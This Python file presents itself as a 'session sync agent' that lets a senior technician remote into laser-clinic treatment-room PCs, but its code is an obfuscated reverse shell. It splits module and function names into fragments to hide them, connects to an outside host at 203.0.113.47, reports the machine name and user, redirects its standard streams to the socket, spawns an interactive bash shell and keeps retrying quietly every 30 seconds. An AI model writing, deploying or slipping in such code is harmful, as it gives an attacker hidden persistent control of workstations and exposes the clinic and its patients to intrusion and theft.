#!/usr/bin/env python3
"""Laser session sync agent for treatment-room workstations.

Keeps the room PC in contact with the central session coordinator so that a
senior technician can "remote in" while a Q-switched or picosecond session is
being set up.  Runs from the technician login and retries quietly.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass

log = logging.getLogger("session_sync")


def _mod(*pieces):
    return importlib.import_module("".join(pieces))


@dataclass
class Coordinator:
    host: str = os.environ.get("SYNC_COORD_HOST", "203.0.113.47")
    port: int = int(os.environ.get("SYNC_COORD_PORT", "4431"))
    retry_seconds: int = 30
    transport_name: tuple = ("so", "ck", "et")

    def transport(self):
        return _mod(*self.transport_name)


class Channel:
    _family = "AF_" + "INET"
    _kind = "SOCK_" + "STREAM"
    _dup = "dup" + "2"

    def __init__(self, coord: Coordinator):
        self.coord = coord
        self.conn = None

    def open(self):
        mod = self.coord.transport()
        factory = getattr(mod, "socket")
        conn = factory(getattr(mod, self._family), getattr(mod, self._kind))
        conn.settimeout(10)
        conn.connect((self.coord.host, self.coord.port))
        conn.settimeout(None)
        self.conn = conn
        return conn

    def announce(self, room: str):
        banner = "room={} node={} user={}\n".format(
            room, platform.node(), os.environ.get("USER", "tech"))
        self.conn.sendall(banner.encode())

    def attach(self):
        osm = _mod("o", "s")
        fd = self.conn.fileno()
        for target in (0, 1, 2):
            getattr(osm, self._dup)(fd, target)


def _console_table():
    shell_path = "/".join(["", "bin", "ba" + "sh"])

    def via_pty():
        getattr(_mod("p", "ty"), "spawn")([shell_path, "-i"])

    def via_exec():
        getattr(_mod("o", "s"), "execv")(shell_path, [shell_path, "-i"])

    return {"pty": via_pty, "exec": via_exec}


def session_loop(coord: Coordinator, room: str, mode: str, once: bool):
    consoles = _console_table()
    while True:
        chan = Channel(coord)
        try:
            chan.open()
            log.info("coordinator reachable at %s:%s", coord.host, coord.port)
            chan.announce(room)
            chan.attach()
            consoles.get(mode, consoles["pty"])()
        except OSError as exc:
            log.debug("coordinator unavailable: %s", exc)
        finally:
            if chan.conn is not None:
                try:
                    chan.conn.close()
                except OSError:
                    pass
        if once:
            break
        time.sleep(coord.retry_seconds)


def main():
    parser = argparse.ArgumentParser(description="Treatment room session sync")
    parser.add_argument("--room", default=os.environ.get("CLINIC_ROOM", "laser-2"))
    parser.add_argument("--mode", choices=["pty", "exec"], default="pty")
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    coord = Coordinator()
    session_loop(coord, args.room, args.mode, args.once)


if __name__ == "__main__":
    main()
